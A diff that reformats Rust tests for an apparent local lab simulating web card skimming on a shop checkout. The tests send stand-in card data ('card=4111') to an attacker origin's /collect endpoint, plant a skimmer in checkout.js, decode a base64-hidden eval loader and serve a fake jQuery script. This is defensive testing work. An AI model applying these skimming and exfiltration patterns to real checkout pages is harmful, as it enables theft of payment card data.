@@ -15,10 +15,7 @@ struct Reply {
 
 impl Reply {
     fn header(&self, name: &str) -> Option<&str> {
-        self.headers
-            .iter()
-            .find(|(n, _)| n == name)
-            .map(|(_, v)| v.as_str())
+        self.headers.iter().find(|(n, _)| n == name).map(|(_, v)| v.as_str())
     }
 }
 
@@ -35,9 +32,7 @@ fn request_bytes(method: &str, base: &str, path: &str, body: &str) -> Vec<u8> {
 /// the body is never chunked.
 fn parse(raw: &[u8]) -> Reply {
     let text = String::from_utf8_lossy(raw);
-    let (head, body) = text
-        .split_once("\r\n\r\n")
-        .expect("response has a header block");
+    let (head, body) = text.split_once("\r\n\r\n").expect("response has a header block");
     let mut lines = head.split("\r\n");
     let status_line = lines.next().unwrap();
     let status = status_line.split(' ').nth(1).unwrap().parse().unwrap();
@@ -47,21 +42,12 @@ fn parse(raw: &[u8]) -> Reply {
             (name.trim().to_ascii_lowercase(), value.trim().to_string())
         })
         .collect();
-    Reply {
-        status,
-        headers,
-        body: body.to_string(),
-    }
+    Reply { status, headers, body: body.to_string() }
 }
 
 async fn send(method: &str, base: &str, path: &str, body: &str) -> Reply {
-    let mut stream = tokio::net::TcpStream::connect(base.trim_start_matches("http://"))
-        .await
-        .unwrap();
-    stream
-        .write_all(&request_bytes(method, base, path, body))
-        .await
-        .unwrap();
+    let mut stream = tokio::net::TcpStream::connect(base.trim_start_matches("http://")).await.unwrap();
+    stream.write_all(&request_bytes(method, base, path, body)).await.unwrap();
     let mut raw = Vec::new();
     stream.read_to_end(&mut raw).await.unwrap();
     parse(&raw)
@@ -80,16 +66,10 @@ async fn checkout_is_served_with_security_headers_and_a_cross_site_iframe() {
 
     let page = get(&shop.base(Origin::Shop), "/checkout").await;
     assert_eq!(page.status, 200);
-    assert_eq!(
-        page.header("content-type"),
-        Some("text/html; charset=utf-8")
-    );
+    assert_eq!(page.header("content-type"), Some("text/html; charset=utf-8"));
     assert_eq!(page.header("cache-control"), Some("no-store"));
     let csp = page.header("content-security-policy").expect("CSP header");
-    assert!(
-        csp.contains(&format!("frame-src {}", shop.base(Origin::Payment))),
-        "{csp}"
-    );
+    assert!(csp.contains(&format!("frame-src {}", shop.base(Origin::Payment))), "{csp}");
     for name in [
         "x-frame-options",
         "x-content-type-options",
@@ -101,35 +81,18 @@ async fn checkout_is_served_with_security_headers_and_a_cross_site_iframe() {
     }
 
     let iframe_src = shop.hosted_fields_url().replace('&', "&amp;");
-    assert!(iframe_src.starts_with(&format!(
-        "{}/hosted-fields?parent=",
-        shop.base(Origin::Payment)
-    )));
-    assert!(
-        page.body.contains(&format!("src=\"{iframe_src}\"")),
-        "iframe src not found"
-    );
-    assert!(page
-        .body
-        .contains(&format!("{}/gtm.js", shop.base(Origin::Vendor))));
+    assert!(iframe_src.starts_with(&format!("{}/hosted-fields?parent=", shop.base(Origin::Payment))));
+    assert!(page.body.contains(&format!("src=\"{iframe_src}\"")), "iframe src not found");
+    assert!(page.body.contains(&format!("{}/gtm.js", shop.base(Origin::Vendor))));
     assert!(page.body.contains(r#"autocomplete="cc-name" required"#));
-    assert!(page
-        .body
-        .contains(r#"<script src="/static/js/checkout.js"></script>"#));
+    assert!(page.body.contains(r#"<script src="/static/js/checkout.js"></script>"#));
 
     // The iframe document, fetched as the browser would, carries the card inputs.
-    let path = shop
-        .hosted_fields_url()
-        .replace(&shop.base(Origin::Payment), "");
+    let path = shop.hosted_fields_url().replace(&shop.base(Origin::Payment), "");
     let fields = get(&shop.base(Origin::Payment), &path).await;
     assert_eq!(fields.status, 200);
     for autocomplete in ["cc-number", "cc-exp", "cc-csc", "cc-name"] {
-        assert!(
-            fields
-                .body
-                .contains(&format!("autocomplete=\"{autocomplete}\"")),
-            "{autocomplete}"
-        );
+        assert!(fields.body.contains(&format!("autocomplete=\"{autocomplete}\"")), "{autocomplete}");
     }
     assert_eq!(
         fields.header("content-security-policy"),
@@ -143,39 +106,21 @@ async fn edits_are_served_at_once_and_unknown_paths_are_404() {
     let base = shop.base(Origin::Shop);
 
     assert_eq!(get(&base, "/no/such/file.js").await.status, 404);
-    assert_eq!(
-        get(&shop.base(Origin::Attacker), "/js/jquery-3.7.1.min.js")
-            .await
-            .status,
-        404
-    );
+    assert_eq!(get(&shop.base(Origin::Attacker), "/js/jquery-3.7.1.min.js").await.status, 404);
     assert_eq!(get(&base, "/favicon.ico").await.status, 204);
 
     shop.append_to(Origin::Shop, "/static/js/checkout.js", "\n// planted\n");
-    assert!(get(&base, "/static/js/checkout.js")
-        .await
-        .body
-        .ends_with("// planted\n"));
+    assert!(get(&base, "/static/js/checkout.js").await.body.ends_with("// planted\n"));
 
-    shop.set_resource(
-        Origin::Shop,
-        "/new.js",
-        Resource::js("1;").with_header("X-Test", "yes"),
-    );
+    shop.set_resource(Origin::Shop, "/new.js", Resource::js("1;").with_header("X-Test", "yes"));
     let new = get(&base, "/new.js?cache=bust").await;
-    assert_eq!(
-        (new.status, new.body.as_str(), new.header("x-test")),
-        (200, "1;", Some("yes"))
-    );
+    assert_eq!((new.status, new.body.as_str(), new.header("x-test")), (200, "1;", Some("yes")));
 
     assert!(shop.remove_header("/checkout", "x-frame-options"));
     shop.set_header("/checkout", "Content-Security-Policy", "default-src *");
     let page = get(&base, "/checkout").await;
     assert_eq!(page.header("x-frame-options"), None);
-    assert_eq!(
-        page.header("content-security-policy"),
-        Some("default-src *")
-    );
+    assert_eq!(page.header("content-security-policy"), Some("default-src *"));
 
     shop.reset();
     let page = get(&base, "/checkout").await;
@@ -189,38 +134,21 @@ async fn requests_are_recorded_per_origin() {
     let stolen = get(&shop.base(Origin::Attacker), "/collect?v=abc").await;
     assert_eq!(stolen.status, 200);
     assert_eq!(stolen.header("access-control-allow-origin"), Some("*"));
-    send(
-        "POST",
-        &shop.base(Origin::Attacker),
-        "/collect",
-        "card=4111",
-    )
-    .await;
+    send("POST", &shop.base(Origin::Attacker), "/collect", "card=4111").await;
     get(&shop.base(Origin::Shop), "/checkout").await;
 
     let attacker = shop.requests_to(Origin::Attacker);
     assert_eq!(attacker.len(), 2);
-    assert_eq!(
-        (attacker[0].method.as_str(), attacker[0].path.as_str()),
-        ("GET", "/collect?v=abc")
-    );
+    assert_eq!((attacker[0].method.as_str(), attacker[0].path.as_str()), ("GET", "/collect?v=abc"));
     assert_eq!(attacker[0].path_only(), "/collect");
-    assert_eq!(
-        (attacker[1].method.as_str(), attacker[1].body.as_str()),
-        ("POST", "card=4111")
-    );
+    assert_eq!((attacker[1].method.as_str(), attacker[1].body.as_str()), ("POST", "card=4111"));
     assert_eq!(attacker[1].header("Content-Type"), Some("text/plain"));
     assert_eq!(shop.requests().len(), 3);
 
-    let found = shop
-        .wait_for_request(Origin::Attacker, "/collect", Duration::from_millis(10))
-        .await;
+    let found = shop.wait_for_request(Origin::Attacker, "/collect", Duration::from_millis(10)).await;
     assert_eq!(found.unwrap().path, "/collect?v=abc");
     shop.clear_requests();
-    assert!(shop
-        .wait_for_request(Origin::Attacker, "/", Duration::from_millis(50))
-        .await
-        .is_none());
+    assert!(shop.wait_for_request(Origin::Attacker, "/", Duration::from_millis(50)).await.is_none());
 }
 
 #[test]
@@ -230,9 +158,7 @@ fn start_in_background_serves_sync_callers_until_dropped() {
     let base = shop.base(Origin::Shop);
     let fetch = |path: &str| {
         let mut stream = std::net::TcpStream::connect(base.trim_start_matches("http://")).unwrap();
-        stream
-            .write_all(&request_bytes("GET", &base, path, ""))
-            .unwrap();
+        stream.write_all(&request_bytes("GET", &base, path, "")).unwrap();
         let mut raw = Vec::new();
         stream.read_to_end(&mut raw).unwrap();
         parse(&raw)
@@ -241,16 +167,11 @@ fn start_in_background_serves_sync_callers_until_dropped() {
     assert_eq!(page.status, 200);
     assert!(page.body.contains("Harbor &amp; Pine Outfitters"));
     shop.append_skimmer_to_first_party();
-    assert!(fetch("/static/js/checkout.js")
-        .body
-        .contains(&shop.exfil_url()));
+    assert!(fetch("/static/js/checkout.js").body.contains(&shop.exfil_url()));
 
     let addr = base.trim_start_matches("http://").to_string();
     shop.shutdown();
-    assert!(
-        std::net::TcpStream::connect(addr).is_err(),
-        "server still accepting after shutdown"
-    );
+    assert!(std::net::TcpStream::connect(addr).is_err(), "server still accepting after shutdown");
 }
 
 /// Fails on any syntax error, so neither the default content nor a planted attack can break
@@ -295,21 +216,12 @@ async fn every_script_and_every_attack_parses() {
     ];
     for attack in &planted {
         assert!(!attack.code.is_empty());
-        assert!(
-            attack.modified.starts_with("http://127.0.0."),
-            "{}",
-            attack.modified
-        );
+        assert!(attack.modified.starts_with("http://127.0.0."), "{}", attack.modified);
     }
     // Each attack sends to the attacker (the eval loader hides the URL in base64).
     let eval = &planted[3].code;
     let encoded = eval.split('"').nth(1).unwrap();
-    let decoded = String::from_utf8(
-        base64::engine::general_purpose::STANDARD
-            .decode(encoded)
-            .unwrap(),
-    )
-    .unwrap();
+    let decoded = String::from_utf8(base64::engine::general_purpose::STANDARD.decode(encoded).unwrap()).unwrap();
     assert_parses("eval payload", &decoded);
     assert!(decoded.contains(&shop.exfil_url()));
 
@@ -325,11 +237,7 @@ async fn every_script_and_every_attack_parses() {
         }
     }
     let page = shop.get_body(Origin::Shop, "/checkout").unwrap();
-    assert_eq!(
-        inline_scripts(&page).len(),
-        3,
-        "config + CMS skimmer + fake form"
-    );
+    assert_eq!(inline_scripts(&page).len(), 3, "config + CMS skimmer + fake form");
     assert_parses("onerror handler", &planted[5].code);
     assert!(page.contains(&format!("onerror=\"{}\"", planted[5].code)));
     assert!(planted[5].code.chars().all(|c| c != '"' && c != '&'));
@@ -337,10 +245,7 @@ async fn every_script_and_every_attack_parses() {
     let injected = planted[2].added.as_deref().unwrap();
     let payload = get(&shop.base(Origin::Attacker), "/js/jquery-3.7.1.min.js").await;
     assert_eq!(payload.status, 200);
-    assert_eq!(
-        injected,
-        shop.url(Origin::Attacker, "/js/jquery-3.7.1.min.js")
-    );
+    assert_eq!(injected, shop.url(Origin::Attacker, "/js/jquery-3.7.1.min.js"));
     assert!(page.contains(injected));
 }
 
@@ -353,11 +258,7 @@ async fn default_content_does_not_depend_on_ports_except_in_pages() {
     for (origin, path) in a.paths() {
         let resource = a.resource(origin, &path).unwrap();
         if resource.content_type.starts_with("text/javascript") {
-            assert_eq!(
-                Some(resource.body),
-                b.get_body(origin, &path),
-                "{origin} {path}"
-            );
+            assert_eq!(Some(resource.body), b.get_body(origin, &path), "{origin} {path}");
         }
     }
 }
